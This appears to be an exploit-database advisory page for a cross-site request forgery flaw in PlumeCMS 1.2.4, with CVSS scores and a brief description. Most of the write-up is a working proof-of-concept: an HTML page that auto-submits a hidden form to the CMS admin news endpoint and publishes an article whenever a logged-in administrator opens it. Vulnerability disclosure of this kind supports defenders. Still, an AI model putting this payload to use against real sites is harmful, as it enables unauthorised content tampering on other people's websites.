PlumeCMS 1.2.4 Cross Site Request Forgery

2012-02-21 / 2012-10-10
Credit: Ivano Binetti
Risk: LowLocal: No
Remote: Yes
CWE: CWE-352

CVSS Base Score: 6.8/10
Impact Subscore: 6.4/10
Exploitability Subscore: 8.6/10
Exploit range: Remote
Attack complexity: Medium
Authentication: No requiredConfidentiality impact: Partial
Integrity impact: Partial
Availability impact: Partial

+---+ # Exploit Title : PlumeCMS <= 1.2.4 CSRF Vulnerability # Date : 20-02-2012 # Author : Ivano Binetti ( # Software link : # Vendor site : # Version : 1.2.4 (latest) and lower # Tested on : Debian Squeeze (6.0) +---+ +---[Insert and publish NEWS by Ivano Binetti]---+ Summary 1)Vulnerability Description 2)Exploit +---+ 1)Vulnerability Description PlumeCMS is prone to a CSRF Vulnerability which allows an attacker to insert and publish "News" (as PlumeCMS names his articles) when an authenticated admin browses a web page containing the following html/javascript code. 2)Exploit <html> <body onload="javascript:document.forms[0].submit()"> <H2>CSRF Exploit to add and publish News</H2> <form method="POST" name="form0" action="http://localhost:80/plume/manager/news.php"> <input type="hidden" name="n_category_id" value="1"/> <input type="hidden" name="n_content_format" value="html"/> <input type="hidden" name="n_status" value="1"/> <input type="hidden" name="n_comment_support" value="1"/> <input type="hidden" name="n_subtype" value="2"/> <input type="hidden" name="n_title" value="hacked news"/> <input type="hidden" name="n_content" value="%3Cp%3Etest2%3C%2Fp%3E"/> <input type="hidden" name="n_subject" value=""/> <input type="hidden" name="n_titlewebsite" value=""/> <input type="hidden" name="n_linkwebsite" value=""/> <input type="hidden" name="publish" value="Save+%5Bs%5D"/> </form> </body> </html>+---+


Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment }}Copyright 2021,


Back to Top